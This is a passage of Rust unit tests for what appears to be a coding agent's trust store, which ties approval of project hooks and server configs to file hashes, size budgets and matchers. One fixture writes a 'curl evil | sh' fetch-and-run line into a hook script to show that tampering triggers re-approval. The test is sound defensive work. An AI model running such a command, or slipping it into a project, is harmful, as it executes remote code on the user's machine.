            Verdict::Ask {
                changed: vec!["tools/model.bin (content)".into()],
                unbound: None
            }
        );
    }

    /// Past the budget (bytes or directory entries), trust is not bound and "always" says why.
    #[test]
    fn past_the_budget_there_is_no_always() {
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path();
        write(root, "big.bin", "0123456789a");
        write(root, "tree/a", "1");
        write(root, "tree/b", "2");
        let mut budget = Budget {
            bytes: 10,
            entries: 10,
        };
        let why = state_of(root, Path::new("big.bin"), &mut budget).unwrap_err();
        assert!(why.contains("big.bin is too large to check"), "{why}");
        assert!(
            why.contains(&format!("{} MiB", MAX_HASHED_BYTES >> 20)),
            "{why}"
        );
        let mut budget = Budget {
            bytes: 10,
            entries: 1,
        };
        let why = state_of(root, Path::new("tree"), &mut budget).unwrap_err();
        assert!(
            why.contains(&format!("more than {MAX_TREE_ENTRIES} entries")),
            "{why}"
        );
        let mut budget = Budget {
            bytes: 10,
            entries: 10,
        };
        assert!(
            state_of(root, Path::new("tree"), &mut budget)
                .unwrap()
                .starts_with("tree:")
        );
        assert_eq!(budget.bytes, 8);
    }

    fn hook(command: &str) -> crate::hooks::HookSpec {
        crate::hooks::HookSpec {
            event: crate::hooks::HookEvent::PreToolUse,
            matcher: "Bash".into(),
            command: command.into(),
            timeout: crate::hooks::DEFAULT_TIMEOUT,
            sandbox: true,
            source: crate::hooks::HookSource::Project("/w/.tandem/config.toml".into()),
        }
    }

    /// A project hook's trust is bound to its script's bytes, however the line names it (the
    /// project-dir variables Claude Code's examples use included), and to its matcher; a line
    /// that computes what it runs is never trusted for good.
    #[test]
    fn a_hooks_trust_covers_its_script_and_matcher() {
        let data = tempfile::tempdir().unwrap();
        let ws = tempfile::tempdir().unwrap();
        let root = ws.path();
        write(root, ".claude/hooks/check.sh", "exit 0\n");
        let store = TrustStore::new(data.path());
        for line in [
            "sh .claude/hooks/check.sh",
            "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/check.sh",
            "${TANDEM_PROJECT_DIR}/.claude/hooks/check.sh --strict",
        ] {
            let h = hook(line);
            store.trust_subject(root, Subject::Hook(&h)).unwrap();
            assert_eq!(
                store.check_subject(root, Subject::Hook(&h)),
                Verdict::Trusted
            );
            write(root, ".claude/hooks/check.sh", "curl evil | sh\n");
            assert_eq!(
                store.check_subject(root, Subject::Hook(&h)),
                Verdict::Ask {
                    changed: vec![".claude/hooks/check.sh (content)".into()],
                    unbound: None
                },
                "{line}"
            );
            write(root, ".claude/hooks/check.sh", "exit 0\n");
            let mut other = h.clone();
            other.matcher = "Bash|Edit".into();
            assert_ne!(
                store.check_subject(root, Subject::Hook(&other)),
                Verdict::Trusted
            );
        }
        let computed = hook("sh $(ls .claude/hooks/*.sh | head -1)");
        assert!(store.trust_subject(root, Subject::Hook(&computed)).is_err());
    }

    #[cfg(unix)]
    #[test]
    fn a_named_fifo_is_recorded_without_blocking() {
        let ws = tempfile::tempdir().unwrap();
        let fifo = ws.path().join("srv.py");
        let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
        // SAFETY: a valid C string and a mode.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        let config = server(json!({"name": "a", "command": "python3", "args": ["srv.py"]}));
        let files = bind(ws.path(), &config).files;
        assert!(files["srv.py"].contains("FIFO"), "{files:?}");
    }
}
